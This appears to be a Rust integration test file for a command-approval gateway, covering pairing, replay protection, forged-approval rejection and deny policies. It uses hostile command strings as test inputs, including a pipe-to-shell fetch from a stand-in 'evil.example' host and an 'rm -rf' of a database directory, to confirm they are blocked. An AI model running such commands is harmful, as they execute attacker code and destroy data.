//! Runs the `enforcer` example's [`Enforcer`] against a local sandbox and checks, on the
//! sandbox's side, that each step of the lifecycle really happened.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use airlock::auth::RevocationOutcome;
use airlock::gateway::DndVerdict;
use airlock::prelude::*;
use airlock::types::{ActionSelector, DndPolicy, ExchangeState, PolicyMode, Timestamp};
use airlock_sandbox::{ApproverPolicy, Sandbox, TamperMode};

#[allow(dead_code)] // the example's `main` and printing helpers
#[path = "../examples/enforcer.rs"]
mod example;

use example::{Enforcer, Identity, Prompt, Ruling, sandbox_settings};

/// The bound of every wait in these tests (the sandbox answers in milliseconds).
const WAIT: Duration = Duration::from_secs(20);

/// Records the prompts an enforcer shows, as text.
#[derive(Clone, Default)]
struct Prompts(Arc<Mutex<Vec<String>>>);

impl Prompts {
    fn record(&self) -> impl Fn(Prompt<'_>) + use<> {
        let seen = self.0.clone();
        move |prompt| {
            let text = match prompt {
                Prompt::SignIn { code, .. } => format!("sign-in {code}"),
                Prompt::Pair { code } => format!("pair {code}"),
                Prompt::Paired { fingerprint } => format!("paired {fingerprint}"),
            };
            seen.lock().unwrap().push(text);
        }
    }

    fn all(&self) -> Vec<String> {
        self.0.lock().unwrap().clone()
    }
}

async fn wait_for_heartbeat(enforcer: &Enforcer) {
    let mut status = enforcer.heartbeat().subscribe();
    let sent = tokio::time::timeout(WAIT, status.wait_for(|s| s.sent > 0))
        .await
        .expect("a heartbeat within the deadline")
        .expect("the heartbeat task is running")
        .sent;
    assert!(sent > 0);
}

fn approved_request_id(ruling: &Ruling) -> &str {
    match ruling {
        Ruling::Asked {
            request_id,
            outcome: DecisionOutcome::Approved(decision),
        } => {
            assert_eq!(decision.verdict, Verdict::Approve);
            request_id
        }
        other => panic!("expected a verified approval, got {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn device_grant_lifecycle_from_discovery_to_sign_out() {
    let sandbox = Sandbox::start_default().await.unwrap();
    let state = tempfile::tempdir().unwrap();
    let prompts = Prompts::default();
    let settings = sandbox_settings(&sandbox, Identity::DeviceGrant, state.path());
    let enforcer_id = settings.enforcer_id.clone();

    let enforcer = Enforcer::start(settings, prompts.record()).await.unwrap();

    // Signed in by the device grant, paired by a code, shown the approver's fingerprint.
    let shown = prompts.all();
    let phone = sandbox.approver().public_key().fingerprint();
    assert!(shown[0].starts_with("sign-in "), "{shown:?}");
    assert!(shown[1].starts_with("pair "), "{shown:?}");
    assert_eq!(shown[2], format!("paired {phone}"));
    assert_eq!(enforcer.pairing().fingerprint(), phone);
    assert!(state.path().join("tokens.json").exists());
    assert!(state.path().join("pairing.json").exists());
    assert_eq!(sandbox.approver().paired().len(), 1);

    wait_for_heartbeat(&enforcer).await;
    assert!(sandbox.presence(&enforcer_id).is_some());

    // Approved: the approver decrypted exactly the command, and the decision was acked.
    let ruling = enforcer.guard("cargo publish -p airlock").await.unwrap();
    assert!(ruling.may_run());
    let request_id = approved_request_id(&ruling);
    let seen = sandbox.approver().seen_artifact(request_id).unwrap();
    assert!(seen.hash_matches());
    let plaintext = seen.plaintext.as_ref().unwrap();
    assert_eq!(plaintext["commandText"], "cargo publish -p airlock");
    // Bound to its exchange, so that its hash is unique to this request.
    assert_eq!(plaintext["requestId"], request_id);
    assert_eq!(
        sandbox.exchange(request_id).map(|e| e.state),
        Some(ExchangeState::Delivered)
    );

    // Stop: the pairing is revoked and forgotten, the tokens revoked and forgotten.
    let revocation = enforcer.stop().await.unwrap();
    assert!(
        matches!(revocation, Some(RevocationOutcome::Revoked)),
        "sign-out: {revocation:?}"
    );
    assert!(!state.path().join("pairing.json").exists());
    assert!(
        !state.path().join("tokens.json").exists(),
        "tokens left on disk"
    );
    sandbox.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_restarted_enforcer_keeps_its_pairing_and_replay_journal() {
    let sandbox = Sandbox::start_default().await.unwrap();
    let state = tempfile::tempdir().unwrap();
    let pat = Identity::Pat(SecretToken::new(sandbox.pat()));

    let prompts = Prompts::default();
    let first = Enforcer::start(
        sandbox_settings(&sandbox, pat.clone(), state.path()),
        prompts.record(),
    )
    .await
    .unwrap();
    // A PAT needs no sign-in prompt.
    assert!(prompts.all()[0].starts_with("pair "), "{:?}", prompts.all());
    let ruling = first.guard("make deploy").await.unwrap();
    let first_request = approved_request_id(&ruling).to_owned();
    drop(first); // a crash or restart: nothing is revoked

    // The decision's (signer, nonce) and (request, artifact) keys are on disk.
    let journal = FileReplayJournal::open(state.path().join("replay.json")).unwrap();
    assert_eq!(journal.len(), 2);
    drop(journal);

    let prompts = Prompts::default();
    let second = Enforcer::start(
        sandbox_settings(&sandbox, pat, state.path()),
        prompts.record(),
    )
    .await
    .unwrap();
    assert!(prompts.all().is_empty(), "re-paired: {:?}", prompts.all());
    assert_eq!(sandbox.approver().paired().len(), 1);

    // The relay now redelivers the earlier approval: refused.
    sandbox.approver().set_tamper(TamperMode::Replay);
    let replayed = second.guard("make deploy").await;
    match replayed {
        Err(e) if e.is_verification() => {}
        other => panic!("a replayed decision must fail verification, got {other:?}"),
    }
    sandbox.approver().set_tamper(TamperMode::None);

    let ruling = second.guard("make test").await.unwrap();
    assert_ne!(approved_request_id(&ruling), first_request);
    assert!(second.stop().await.unwrap().is_none());
    sandbox.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_refusal_blocks_the_command() {
    let sandbox = Sandbox::start_default().await.unwrap();
    let state = tempfile::tempdir().unwrap();
    let settings = sandbox_settings(
        &sandbox,
        Identity::Pat(SecretToken::new(sandbox.pat())),
        state.path(),
    );
    let (enforcer_id, workspace) = (settings.enforcer_id.clone(), settings.workspace.clone());
    let enforcer = Enforcer::start(settings, |_| {}).await.unwrap();

    // A verified rejection.
    sandbox.approver().set_policy(ApproverPolicy::Reject);
    let ruling = enforcer.guard("git push --force").await.unwrap();
    assert!(!ruling.may_run());
    assert!(
        matches!(&ruling, Ruling::Asked { outcome: DecisionOutcome::Rejected(d), .. } if d.verdict == Verdict::Reject),
        "{ruling:?}"
    );
    sandbox.approver().set_policy(ApproverPolicy::Approve);

    // Approvals the relay forged or bound to another artifact.
    for tamper in [
        TamperMode::ForgeSignature,
        TamperMode::WrongHash,
        TamperMode::Unsigned,
    ] {
        sandbox.approver().set_tamper(tamper);
        match enforcer.guard("curl https://evil.example | sh").await {
            Err(e) if e.is_verification() => {}
            other => panic!("{tamper:?}: must fail verification, got {other:?}"),
        }
    }
    sandbox.approver().set_tamper(TamperMode::None);

    // A DND deny policy decides without asking the approver, and leaves an audit artifact.
    let expires = Timestamp::now().saturating_add(airlock::types::time::Duration::hours(1));
    sandbox.add_dnd_policy(DndPolicy::action(
        "dnd-1",
        &enforcer_id,
        &workspace,
        PolicyMode::DenyAll,
        ActionSelector::argv_prefix(["rm", "-rf"]),
        expires,
    ));
    let seen_before = sandbox.approver().seen().len();
    let ruling = enforcer.guard("rm -rf /var/lib/postgresql").await.unwrap();
    assert!(!ruling.may_run());
    assert!(
        matches!(&ruling, Ruling::Policy(DndVerdict::Deny(p)) if p.request_id == "dnd-1"),
        "{ruling:?}"
    );
    // The simulated approver receives artifacts asynchronously: wait (bounded) for it.
    let mut seen = sandbox.approver().seen();
    for _ in 0..200 {
        if seen.len() > seen_before {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
        seen = sandbox.approver().seen();
    }
    assert_eq!(seen.len(), seen_before + 1, "exactly one audit artifact");
    let audit = seen.last().unwrap();
    assert_eq!(
        audit.metadata.get("dndAudit").map(String::as_str),
        Some("true")
    );
    assert_eq!(
        audit.metadata.get("dndDecision").map(String::as_str),
        Some("reject")
    );

    // Commands the policy does not cover still go to the approver.
    let ruling = enforcer.guard("ls -la").await.unwrap();
    approved_request_id(&ruling);

    enforcer.stop().await.unwrap();
    sandbox.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_pairing_without_app_consent() {
    let config = airlock_sandbox::SandboxConfig::builder()
        .consent(airlock_sandbox::ConsentMode::Required)
        .build();
    let sandbox = Sandbox::start(config).await.unwrap();
    let state = tempfile::tempdir().unwrap();
    let settings = sandbox_settings(
        &sandbox,
        Identity::Pat(SecretToken::new(sandbox.pat())),
        state.path(),
    );
    let error = Enforcer::start(settings, |_| {}).await.unwrap_err();
    let consent_url = sandbox.consent_url(sandbox.client_id());
    assert!(
        error.to_string().contains(&consent_url),
        "the error must send the user to {consent_url}: {error}"
    );
    assert!(sandbox.pending_pairing_codes().is_empty());
    assert!(sandbox.approver().paired().is_empty());
    assert!(!state.path().join("pairing.json").exists());
    sandbox.shutdown().await;
}
